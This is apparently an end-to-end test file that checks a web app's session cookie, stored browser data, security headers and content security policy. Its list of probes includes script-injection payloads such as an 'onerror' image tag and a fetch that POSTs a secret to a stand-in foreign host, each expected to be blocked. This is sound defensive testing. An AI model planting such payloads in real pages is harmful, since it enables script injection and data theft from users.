import type { Page } from 'playwright-core'
import { describe, expect, test } from 'vitest'
import { text } from '../../console/text.ts'
import { PASSWORD } from '../support/service.ts'
import { button, COOKIE, heading, launchApp, sentence, signIn } from './app.ts'

// What the browser enforces for the page: the cookie, storage and the content security policy.

const app = launchApp()

const openSessions = async () => {
  const user = await app.service.user()
  const page = await app.open()
  await signIn(page, user)
  await heading(page, text.sessions.title).waitFor()
  return { user, page }
}

describe('the session cookie', () => {
  test('is invisible to scripts, and has the strictest attributes', async () => {
    const { page } = await openSessions()
    const cookies = await page.context().cookies()
    expect(cookies).toHaveLength(1)
    expect(cookies[0]).toMatchObject({ name: COOKIE, path: '/', domain: 'localhost', httpOnly: true, secure: true })
    expect(cookies[0]?.sameSite).toBe('Lax')
    expect(await page.evaluate('document.cookie')).toBe('')
    expect(await page.content()).not.toContain(cookies[0]?.value)
  })

  test('is the only thing stored in the browser, and no secret is in the URL', async () => {
    const { user, page } = await openSessions()
    await page.getByRole('link', { name: text.navigation.account }).click()
    await page.getByLabel(text.fields.currentPassword, { exact: true }).fill(PASSWORD)
    await page.getByLabel(text.fields.newPassword, { exact: true }).fill(`${PASSWORD} anew`)
    await button(page, text.account.passwordSubmit).click()
    await sentence(page, text.account.passwordDone).waitFor()
    const stored = () =>
      page.evaluate(`(async () => ({
        local: localStorage.length,
        session: sessionStorage.length,
        databases: (await indexedDB.databases()).length,
        caches: (await caches.keys()).length,
        workers: (await navigator.serviceWorker.getRegistrations()).length,
        history: JSON.stringify(history.state),
        name: window.name,
      }))()`)
    const nothing = { local: 0, session: 0, databases: 0, caches: 0, workers: 0, history: 'null', name: '' }
    expect(await stored()).toEqual(nothing)
    await button(page, text.navigation.signOut).click()
    await heading(page, text.signIn.title).waitFor()
    expect(await stored()).toEqual(nothing)
    expect(page.url()).toBe(`${app.service.url}/#/`)
    expect(await page.context().cookies()).toEqual([])
    expect(await page.content()).not.toContain(user.email)
  })

  test('is gone after a sign-out: going back shows nothing of the user', async () => {
    const { user, page } = await openSessions()
    await page.getByRole('link', { name: text.navigation.account }).click()
    await heading(page, text.account.title).waitFor()
    await button(page, text.navigation.signOut).click()
    await heading(page, text.signIn.title).waitFor()
    await page.goto('about:blank')
    await page.goBack()
    await heading(page, text.signIn.title).waitFor()
    expect(await page.content()).not.toContain(user.email)
  })
})

describe('the responses', () => {
  test('the page has the exact content security policy and is never stored', async () => {
    const answer = await app.service.request('GET', '/')
    expect(answer.status).toBe(200)
    expect(answer.headers).toMatchObject({
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'no-store',
      'content-security-policy':
        "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; " +
        "base-uri 'none'; form-action 'none'; frame-ancestors 'none'; " +
        "require-trusted-types-for 'script'; trusted-types 'none'",
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'permissions-policy': 'camera=(), geolocation=(), microphone=(), payment=(), usb=()',
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
    })
    expect(answer.headers['content-security-policy']).not.toContain('unsafe')
    expect(answer.setCookie).toEqual([])
  })

  test('assets are compressed, and cached forever under hashed names', async () => {
    const { text: page } = await app.service.request('GET', '/')
    const names = [...page.matchAll(/(?:src|href)="([^"]+)"/g)].map(([, name = '']) => name)
    expect(names).toHaveLength(5)
    for (const name of names) {
      expect(name).toMatch(/^\/assets\/[a-z]+-[A-Z0-9]{8}\.(js|css|svg)$/)
      const headers = { 'accept-encoding': 'gzip, br' }
      const answer = await app.service.request('GET', name, { headers })
      expect(answer.status).toBe(200)
      expect(answer.headers).toMatchObject({
        'cache-control': 'public, max-age=31536000, immutable',
        'content-encoding': 'br',
        'x-content-type-options': 'nosniff',
        vary: 'Accept-Encoding, Origin, Sec-Fetch-Site',
      })
    }
  })
})

describe('the content security policy', () => {
  /** Runs a script in the page and returns the directives that the browser enforced against it. */
  const violationsOf = async (page: Page, script: string): Promise<string[]> => {
    app.allowLogs(
      /Content Security Policy|Refused to|requires 'Trusted|violates/i,
      /foreign: https:\/\/foreign\.example/,
    )
    return page.evaluate<string[]>(`(async () => {
      const seen = []
      const done = new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => {
          seen.push(event.effectiveDirective)
          resolve()
        })
      })
      try {
        ${script}
      } catch {}
      await done
      return seen
    })()`)
  }

  const ATTACKS: [name: string, directive: string, script: string][] = [
    [
      'an inline script',
      'require-trusted-types-for',
      `const element = document.createElement('script'); element.append('window.hacked = 1'); document.body.append(element)`,
    ],
    [
      'a foreign script',
      'require-trusted-types-for',
      `const element = document.createElement('script'); element.src = 'https://foreign.example/x.js'; document.body.append(element)`,
    ],
    ['a foreign module', 'script-src-elem', `await import('https://foreign.example/x.js')`],
    ['a module in a data URL', 'script-src-elem', `await import('data:text/javascript,window.hacked = 1')`],
    [
      'an event handler attribute',
      'require-trusted-types-for',
      `document.body.setAttribute('onclick', 'window.hacked = 1')`,
    ],
    [
      'HTML from a string',
      'require-trusted-types-for',
      `document.body.innerHTML = '<img src=x onerror="window.hacked = 1">'`,
    ],
    [
      'an inline style',
      'style-src-elem',
      `const element = document.createElement('style'); element.append('body { opacity: 0 }'); document.body.append(element)`,
    ],
    ['a style attribute', 'style-src-attr', `document.body.setAttribute('style', 'opacity: 0')`],
    ['a foreign image', 'img-src', `new Image().src = 'https://foreign.example/x.png'`],
    ['a foreign request', 'connect-src', `await fetch('https://foreign.example/', { method: 'POST', body: 'secret' })`],
    [
      'a frame',
      'frame-src',
      `const element = document.createElement('iframe'); element.src = 'https://foreign.example/'; document.body.append(element)`,
    ],
    [
      'a form to another origin',
      'form-action',
      `const element = document.createElement('form'); element.action = 'https://foreign.example/'; document.body.append(element); element.submit()`,
    ],
    [
      'a base element',
      'base-uri',
      `const element = document.createElement('base'); element.href = 'https://foreign.example/'; document.head.append(element)`,
    ],
    ['a Trusted Types policy', 'trusted-types', `trustedTypes.createPolicy('default', { createHTML: (text) => text })`],
  ]

  test('blocks everything except the page’s own files', async () => {
    const page = await app.open()
    await heading(page, text.signIn.title).waitFor()
    for (const [name, directive, script] of ATTACKS) {
      expect(await violationsOf(page, script), name).toContain(directive)
      expect(await page.evaluate('window.hacked'), name).toBeUndefined()
    }
    expect(await page.evaluate('getComputedStyle(document.body).opacity')).toBe('1')
  })

  test('blocks eval', async () => {
    const page = await app.open()
    // In a task of the page, since the policy does not apply to the debugger's own evaluation.
    const violations = await violationsOf(page, `setTimeout(() => eval('window.hacked = 1'))`)
    expect(violations.join()).toMatch(/script-src|require-trusted-types-for/)
    expect(await page.evaluate('window.hacked')).toBeUndefined()
    app.allowLogs(/uncaught: /)
  })
})
